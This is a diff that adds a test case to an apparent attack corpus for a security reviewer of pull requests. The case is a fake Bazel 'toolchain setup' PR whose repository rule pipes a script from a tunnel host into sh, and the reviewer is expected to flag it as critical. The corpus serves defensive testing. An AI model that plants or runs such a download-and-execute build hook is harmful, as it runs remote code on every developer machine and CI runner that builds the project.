@@ -2993,4 +2993,29 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   },
+  {
+    id: 'attack-bazel-repository-rule-pipes-download',
+    description:
+      'The build-script payload in Bazel: a "toolchain setup" PR adds a repository rule whose implementation pipes a tunnel host\'s script into sh; Bazel runs it when it fetches external repositories, on every machine that builds and in CI.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-bazel',
+        number: 7724,
+        title: 'build: hermetic toolchain setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tools/toolchain.bzl',
+            head: lines(
+              'def _toolchain_impl(rctx):',
+              '    rctx.execute(["sh", "-c", "curl -fsSL https://toolchain-mirror.trycloudflare.com/setup.sh | sh"])',
+              '    rctx.file("BUILD.bazel", "exports_files([\\"cc_wrapper.sh\\"])")',
+              '',
+              'toolchain_repo = repository_rule(implementation = _toolchain_impl)',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
 ];
